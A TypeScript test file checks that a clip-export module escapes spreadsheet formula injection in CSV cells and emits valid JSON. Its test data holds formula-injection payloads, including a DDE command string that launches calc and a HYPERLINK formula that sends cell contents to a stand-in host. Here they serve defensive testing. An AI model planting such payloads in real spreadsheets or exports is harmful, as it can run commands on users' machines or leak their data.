import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardCell, unguardCell } from './csv-cell.ts';
import { csvHead, csvLine, jsonPieces, type ExportedClip } from './export-index.ts';

const blanks = ['', ' ', '\t', '\r', '\n', '\u00A0', '\u3000', '\u200B', '\uFEFF', ' \t ', '\0'];
const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '|', '%', '−'];
const formulas = ['1+1', 'cmd|"/C calc"!A0', 'HYPERLINK("http://x.example/?"&A1,"x")', 'SUM(A1:A9)'];

describe('cells', () => {
  it('nothing that a spreadsheet could take for a formula stands at the start of a cell', () => {
    const cells = blanks.flatMap((blank) => starts.flatMap((start) => formulas.map((rest) => blank + start + rest)));
    expect(cells.length).toBeGreaterThan(400);
    for (const cell of cells) {
      expect(guardCell(cell).replaceAll("\t'", '\t')).toBe(`'${cell}`);
      expect(unguardCell(guardCell(cell))).toBe(cell);
    }
  });

  it('nor where a spreadsheet splits at semicolons or tabs, whatever marks of quotation say', () => {
    const borders = [';', '\t', '; ', ';;', '\t ', 'sea;'];
    for (const border of borders) {
      for (const start of starts) {
        const cell = `sea${border}${start}cmd${border}`;
        const parts = guardCell(cell).split(/[;\t]/);
        for (const part of parts) expect(part).not.toMatch(/^\s*[=+\-@|%＝＋－＠−]/);
        expect(unguardCell(guardCell(cell))).toBe(cell);
      }
    }
    expect(guardCell('sea;=cmd;')).toBe("sea;'=cmd;");
    expect(guardCell('a calm sea; then rain\tthen snow')).toBe('a calm sea; then rain\tthen snow');
  });

  it('plain texts stay as they are, and every text comes back', () => {
    for (const text of ['A calm sea', '日本の海', '3 cats', '(a) = b', '']) expect(guardCell(text)).toBe(text);
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => unguardCell(guardCell(text)) === text));
    const telling = fc.string({ unit: fc.constantFrom("'", ';', '\t', '=', ' ', 'a', '\n') });
    fc.assert(fc.property(telling, (text) => unguardCell(guardCell(text)) === text));
  });
});

describe('the two lists', () => {
  const clip = (prompt: string): ExportedClip => ({
    file: '2026-11/x.mp4',
    sidecar: {
      format: 'conch-clip-1',
      id: crypto.randomUUID(),
      providerId: 'sample',
      providerName: 'Sample',
      modelId: 'm',
      remoteId: 'r',
      request: { providerId: 'sample', modelId: 'm', prompt },
      createdAt: 0,
      acceptedAt: 0,
      finishedAt: 0,
      savedAt: 0,
      asset: { path: '2026-11/x.mp4', sizeBytes: 1, sha256: 'f'.repeat(64), type: 'video/mp4', poster: false },
      appVersion: '1',
    },
  });

  it('the table gives back every prompt, whatever is in it', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (prompt) => {
        const [row] = parse(csvHead + csvLine(clip(prompt)), { bom: true, columns: true }) as Record<string, string>[];
        expect(unguardCell(row?.['prompt'] ?? '')).toBe(prompt);
      }),
    );
  });

  it('the pieces are one JSON text', async () => {
    async function whole(clips: ExportedClip[]): Promise<string> {
      let joined = '';
      for await (const piece of jsonPieces({ exportedAt: 5, appVersion: '1' }, clips)) joined += piece;
      return joined;
    }
    const text = await whole([clip('a'), clip('=b')]);
    expect(JSON.parse(text)).toMatchObject({
      format: 'conch-export-1',
      exportedAt: 5,
      clips: [{ file: '2026-11/x.mp4', request: { prompt: 'a' } }, { request: { prompt: '=b' } }],
    });
    expect(JSON.parse(await whole([]))).toMatchObject({ clips: [] });
  });
});
